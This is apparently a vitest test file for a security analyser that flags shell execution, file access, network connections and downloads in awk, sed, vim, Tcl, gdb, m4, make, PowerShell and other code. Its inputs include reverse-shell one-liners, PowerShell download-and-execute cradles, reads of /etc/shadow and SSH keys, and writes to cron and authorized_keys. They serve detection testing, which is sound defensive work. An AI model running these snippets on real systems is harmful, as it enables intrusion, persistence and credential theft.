import { describe, expect, test } from 'vitest';
import type { CodeLanguage } from '../../../src/shell/code/read-code.js';
import { findingsOf } from './findings-of.js';

type Rows = readonly (readonly [code: string, found: readonly string[]])[];

const awk: Rows = [
  ['BEGIN {system("/bin/sh")}', ['line /bin/sh']],
  ['BEGIN { c = "i" "d"; system(c " -u"); system(sprintf("rm -rf %s", "/x")) }', ['line id -u', 'line rm -rf /x']],
  ['{ if ($1 ~ /x/) system("echo " $2) }', ['line echo …']],
  ['{ print $1 > "/etc/cron.d/x" }', ['write /etc/cron.d/x']],
  ['{ print >> "/tmp/x"; printf "%s", $1 > "/tmp/y" }', ['write /tmp/x', 'write /tmp/y']],
  [
    'END { while ((getline line < "/etc/shadow") > 0) print line; "id" | getline x; print x | "sh" }',
    ['read /etc/shadow', 'line id', 'line sh'],
  ],
  [
    'BEGIN{s="/inet/tcp/0/10.0.0.1/4242";while(1){printf "> "|&s;s|&getline c;while((c|&getline)>0)print $0|&s}}',
    ['connect 10.0.0.1', 'connect 10.0.0.1', 'line …', 'connect 10.0.0.1'],
  ],
  ['BEGIN{s="/inet/tcp/80/0/0"; s |& getline}', ['listen 80']],
  ['@load "filefuncs"; BEGIN { f = "system"; @f("id") }', ['load filefuncs', 'line id']],
  ['{print $1}', []],
  ['NR>1 && $3 > 100 { sum += $3; a[$1]++ } END { for (k in a) print k, a[k]; print sum/NR }', []],
  ['/a"b/ {print "x" ; print substr($0, 1, 5) > "/dev/stderr"; print ($1 > 5)} # system("x")', []],
  ['BEGIN { print "system(\\"id\\")" }', []],
];

const sed: Rows = [
  ['1e exec /bin/sh 1>&0', ['line exec /bin/sh 1>&0']],
  ['s/.*/id/e', ['line id']],
  ['s/x/y/e', ['line …y…']],
  ['e', ['line …']],
  ['s/foo/bar/g; s|a/b|c|w /etc/cron.d/x', ['write /etc/cron.d/x']],
  ['/root/{r /etc/shadow\nW out.txt\n}', ['read /etc/shadow', 'write out.txt']],
  ['10w /tmp/x', ['write /tmp/x']],
  ['$r/etc/passwd', ['read /etc/passwd']],
  ['/^#/d;/^$/d', []],
  ['$!N;$!D', []],
  ['1i\\hello w world', []],
  ['s/[/]e/x/; y/abc/xyz/; 2,5p; :a;N;$!ba;s/\\n/ /g', []],
  ['/a/,/e id/s/w x/r y/', []],
  ['s#/usr/w#/e w#g', []],
  ['s/a/b/w /dev/stdout', []],
  ['# e id', []],
];

const vim: Rows = [
  [':!/bin/sh', ['line /bin/sh']],
  ['%!sort -u', ['line sort -u']],
  ['silent !id', ['line id']],
  ['r !id', ['line id']],
  ['w !sudo tee /etc/x', ['line sudo tee /etc/x']],
  ['w! /etc/x', ['write /etc/x']],
  ['set shell=/bin/sh|shell', ['program /bin/sh', 'program sh']],
  ['py3 import os; os.execl("/bin/sh", "sh", "-c", "reset; exec sh")', ['program /bin/sh -c reset; exec sh']],
  ['lua os.execute("id")', ['line id']],
  ['ruby exec "id"', ['line id']],
  ['perl system("id")', ['line id']],
  [':call system("id") | qa!', ['line id']],
  ['echo system("cat /etc/shadow")', ['line cat /etc/shadow']],
  ['call writefile(["x"], "/etc/cron.d/x")', ['write /etc/cron.d/x']],
  ['echo readfile("/etc/shadow")', ['read /etc/shadow']],
  ['execute "!id"', ['line id']],
  [':e /etc/shadow', ['read /etc/shadow']],
  ['so /tmp/x.vim', ['load /tmp/x.vim']],
  ['python << EOF\nimport os\nos.system("id")\nEOF\nq', ['line id']],
  ['g/x/!id', ['line id']],
  ['au BufRead * !id', ['line id']],
  ['term', ['program sh']],
  ['a\n!id\n.\nw out.txt', ['write out.txt']],
  ['%s/foo/bar/g | w /etc/cron.d/x | q!', ['write /etc/cron.d/x']],
  ['wq', []],
  ['set nocompatible | syntax on | colorscheme desert', []],
  ['%s/system/exec/g', []],
  ['g/pattern/d', []],
  ['normal ggVGd', []],
  ['set number tabstop=4', []],
];

const tcl: Rows = [
  ['exec /bin/sh <@stdin >@stdout 2>@stderr', ['program /bin/sh']],
  ['spawn /bin/sh;interact', ['program /bin/sh']],
  ['set cmd "ls"; exec $cmd -l | grep x > /tmp/o', ['program ls -l', 'write /tmp/o', 'program grep x']],
  ['puts [exec id]', ['program id']],
  ['set s [socket 10.0.0.1 4242]; eval [gets $s]', ['connect 10.0.0.1', 'evaluate …']],
  ['socket -server accept 8080', ['listen 8080']],
  [
    'puts [read [open /etc/shadow]]; open "/etc/cron.d/x" w; open "|id -u"',
    ['read /etc/shadow', 'write /etc/cron.d/x', 'program id -u'],
  ],
  [
    'file delete -force /var; file delete /x; file copy /a /b; source /tmp/x.tcl; load /tmp/x.so',
    ['program rm -r -- /var', 'delete /x', 'read /a', 'write /b', 'load /tmp/x.tcl', 'load /tmp/x.so'],
  ],
  ['if {1} { foreach x {1 2} { exec id } }', ['program id']],
  ['eval "exec id"', ['program id']],
  ['puts "hello [expr {1+2}]"; foreach x {1 2 3} { puts $x }; # exec id', []],
  ['puts {exec id}', []],
];

const gdb: Rows = [
  ['!/bin/sh', ['line /bin/sh']],
  ['shell', ['program sh']],
  ['python import os; os.execl("/bin/sh", "sh")', ['program /bin/sh']],
  ['python\nimport os\nos.system("id")\nend\nbt', ['line id']],
  ['call (void)system("id")', ['line id']],
  ['print (int)execl("/bin/sh", "sh", "-p", 0)', ['program /bin/sh -p']],
  ['dump value /root/.ssh/authorized_keys "DATA"', ['write /root/.ssh/authorized_keys']],
  ['dump binary memory /tmp/x 0 10', ['write /tmp/x']],
  ['source /tmp/x.gdb', ['load /tmp/x.gdb']],
  ['target remote | id', ['line id']],
  ['target remote host:1234', ['connect host']],
  ['set logging file /tmp/l', ['write /tmp/l']],
  ['pipe bt | tee /x', ['line tee /x']],
  ['bt\ninfo registers\nbreak main\nrun\nprint my_var\nset var x = 5\nquit', []],
];

const m4: Rows = [
  ["esyscmd(`/bin/sh 1>&0')", ['line /bin/sh 1>&0']],
  ['syscmd(id)', ['line id']],
  ["include(`/etc/shadow')define(`x', `1')x", ['read /etc/shadow']],
  ["define(`greet', `hello $1')greet(`world')", []],
];

const make: Rows = [
  ['$(shell /bin/sh 1>&0)', ['line /bin/sh 1>&0']],
  ['${shell id}', ['line id']],
  ['$(file >/dev/stdout,$(file </root/.ssh/id_rsa))', ['read /root/.ssh/id_rsa']],
  ['$(file >/etc/cron.d/x,DATA)', ['write /etc/cron.d/x']],
  ['x:; id', ['line id']],
  [
    'CC = gcc\nall: a.o\n\t$(CC) -o $@ a.o\n\t@echo $$HOME\ninclude x.mk\nV != date',
    ['line gcc -o … a.o', 'line echo $HOME', 'load x.mk', 'line date'],
  ],
  ['SHELL = /tmp/x', ['program /tmp/x']],
  ['A := 1\n.PHONY: all\nB = $(wildcard *.c) $(patsubst %.c,%.o,$(A))', []],
];

const powershell: Rows = [
  ["IEX (New-Object Net.WebClient).DownloadString('http://e/x.ps1')", ['fetch http://e/x.ps1', 'evaluate …']],
  ['iwr http://e/x | iex', ['fetch http://e/x', 'evaluate …']],
  ['Remove-Item -Recurse -Force /var; rm /x', ['program rm -r -- /var', 'delete /x']],
  ["Start-Process /bin/sh -ArgumentList '-c','id'", ['program /bin/sh -c id']],
  ["$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444)", ['connect 10.0.0.1']],
  ['& "/bin/sh" -c id; bash -c \'id\'', ['program /bin/sh -c id', 'program bash -c id']],
  [
    '[System.IO.File]::ReadAllText("/etc/shadow"); [Diagnostics.Process]::Start("/bin/sh")',
    ['read /etc/shadow', 'program /bin/sh'],
  ],
  ['$a="http://"+"e/x"; Invoke-WebRequest -Uri $a -OutFile /tmp/x', ['fetch http://e/x', 'write /tmp/x']],
  ["iex 'Remove-Item /y'", ['delete /y']],
  ["iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gL3k=')))", ['delete /y']],
  ['Write-Host "hello $(whoami)"', ['program whoami']],
  ['apt-get update; systemctl stop sshd', ['program apt-get update', 'program systemctl stop sshd']],
  ['Get-Process | Where-Object { $_.CPU -gt 10 } | Select-Object Name | Format-Table', []],
  ['Get-ChildItem -Path /tmp -Recurse; $PSVersionTable; ls | sort', []],
  ['1..10 | ForEach-Object { $_ * 2 }; "a,b".Split(",")', []],
];

const generic: Rows = [
  ['System.Process.callCommand "/bin/sh"', ['line /bin/sh']],
  ['readFile "/etc/shadow" >>= putStr', ['read /etc/shadow']],
  ['print(open(f->read(f, String), "/root/.ssh/id_rsa"))', ['read /root/.ssh/id_rsa']],
  ['open(f->write(f, "DATA"), "/etc/cron.d/x", "w")', ['write /etc/cron.d/x']],
  [
    'using Sockets; sock=connect("attacker.com", 80); run(pipeline(`$cmd`, stdout=ioo))',
    ['connect attacker.com', 'line …'],
  ],
  ['run(`/bin/sh`)', ['line /bin/sh']],
  ['system("/bin/sh")', ['line /bin/sh']],
  ['system2("ls", "-l")', ['program ls -l']],
  ['(shell-command "id") (term "/bin/sh") (delete-file "/x")', ['line id', 'program /bin/sh', 'delete /x']],
  ['(call-process "id" nil t)', ['program id']],
  ['"ls -l".execute().text; ["sh","-c","id"].execute()', ['line ls -l', 'program sh -c id']],
  [
    'Runtime.getRuntime().exec("/bin/sh -c id"); new ProcessBuilder("sh", "-i").start()',
    ['line /bin/sh -c id', 'program sh -i'],
  ],
  ['os:cmd("id"), halt().', ['line id']],
  ['System.cmd("sh", ["-c", "id"]); File.read!("/etc/shadow")', ['program sh -c id', 'read /etc/shadow']],
  ['do shell script "rm -rf /x" with administrator privileges', ['line rm -rf /x']],
  ['import scala.sys.process._; "id".!', ['line id']],
  ['Sys.command "id";; Unix.execv "/bin/sh" [|"sh"|]', ['program id', 'program /bin/sh sh']],
  ['(run-program "/bin/sh" \'("-c" "id"))', ['program /bin/sh -c id']],
  ['download.file("http://e/x", "/tmp/x")', ['fetch http://e/x']],
  ['x <- read.csv("data.csv"); summary(x); cat("done\\n"); print(mean(c(1,2)))', []],
  ['map toUpper "abc"; sum [1..10]; putStrLn "read the file"', []],
  ['println(run(5)); read(stdin); list.find("x"); puts "system"', []],
  ['(require \'package) (setq x \'foo) (message "hello") (kill-emacs)', []],
  ['Enum.map([1,2], fn x -> x * 2 end) |> IO.inspect; IO.puts("system ok")', []],
  ['// system("id")\n/* exec("id") */ 1 + 1', []],
  ['install.packages("ggplot2", repos="https://cran.r-project.org"); library(ggplot2)', []],
];

const tables: readonly [CodeLanguage, Rows][] = [
  ['awk', awk],
  ['sed', sed],
  ['vim', vim],
  ['tcl', tcl],
  ['gdb', gdb],
  ['m4', m4],
  ['make', make],
  ['powershell', powershell],
  ['code', generic],
];

describe.each(tables)('%s', (language, rows) => {
  test.each(rows)('%s', (code, found) => {
    expect(findingsOf(language, code)).toEqual(found);
  });
});
